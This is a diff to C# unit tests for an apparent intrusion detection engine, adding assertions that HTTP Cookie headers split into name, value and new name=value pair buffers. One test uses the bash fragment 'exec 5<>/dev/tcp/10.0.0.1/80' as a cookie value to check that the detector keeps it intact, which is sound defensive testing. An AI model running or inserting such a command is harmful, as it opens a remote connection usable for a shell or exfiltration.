@@ -5,7 +5,7 @@ using static EastWestIds.Signatures.Tests.Buffers.BufferAssert;
 
 namespace EastWestIds.Signatures.Tests.Buffers;
 
-/// <summary><c>http.cookie_value</c> / <c>http.cookie_name</c>: one entry per cookie, split as RFC 6265 §5.4 reads a Cookie header.</summary>
+/// <summary><c>http.cookie_value</c> / <c>http.cookie_name</c> / <c>http.cookie_pair</c>: one entry per cookie, split as RFC 6265 §5.4 reads a Cookie header.</summary>
 public sealed class RequestBuffersCookiesTests
 {
     private static RequestBuffers For(FakeRequestView view, RequestBufferLimits? limits = null)
@@ -22,6 +22,7 @@ public sealed class RequestBuffersCookiesTests
 
         Assert.Equal(["a", "b", "c", "d"], Values(b, InspectionBuffer.HttpCookieName));
         Assert.Equal(["1", "2", "x=y", "\"q v\""], Values(b, InspectionBuffer.HttpCookieValue));
+        Assert.Equal(["a=1", "b = 2", "c=x=y", "d=\t\"q v\""], Values(b, InspectionBuffer.HttpCookiePair));
     }
 
     [Fact]
@@ -31,6 +32,7 @@ public sealed class RequestBuffersCookiesTests
 
         Assert.Equal([""], Values(b, InspectionBuffer.HttpCookieName));
         Assert.Equal(["exec 5<>/dev/tcp/10.0.0.1/80"], Values(b, InspectionBuffer.HttpCookieValue));
+        Assert.Equal(["exec 5<>/dev/tcp/10.0.0.1/80"], Values(b, InspectionBuffer.HttpCookiePair));
     }
 
     [Fact]
@@ -40,6 +42,7 @@ public sealed class RequestBuffersCookiesTests
 
         Assert.Equal(["a", "", ""], Values(b, InspectionBuffer.HttpCookieName));
         Assert.Equal(["", "v", "b"], Values(b, InspectionBuffer.HttpCookieValue));
+        Assert.Equal(["a=", "=v", "b"], Values(b, InspectionBuffer.HttpCookiePair));
     }
 
     [Fact]
@@ -49,6 +52,7 @@ public sealed class RequestBuffersCookiesTests
 
         Assert.Equal(["a", "b", "c"], Values(b, InspectionBuffer.HttpCookieName));
         Assert.Equal(["1", "2", "3"], Values(b, InspectionBuffer.HttpCookieValue));
+        Assert.Equal(["a=1", "b=2", "c=3"], Values(b, InspectionBuffer.HttpCookiePair));
     }
 
     [Fact]
@@ -66,6 +70,7 @@ public sealed class RequestBuffersCookiesTests
 
         Assert.Equal(0, b.Count(InspectionBuffer.HttpCookieValue));
         Assert.Equal(0, b.Count(InspectionBuffer.HttpCookieName));
+        Assert.Equal(0, b.Count(InspectionBuffer.HttpCookiePair));
     }
 
     [Fact]
@@ -75,6 +80,7 @@ public sealed class RequestBuffersCookiesTests
 
         Assert.Equal(["1", "2", "3"], Values(b, InspectionBuffer.HttpCookieValue));
         Assert.Equal(["a", "b", "c"], Values(b, InspectionBuffer.HttpCookieName));
+        Assert.Equal(["a=1", "b=2", "c=3"], Values(b, InspectionBuffer.HttpCookiePair));
         Assert.True(b.Anomalies.HasFlag(DecodingAnomalies.TooManyArgs));
     }
 
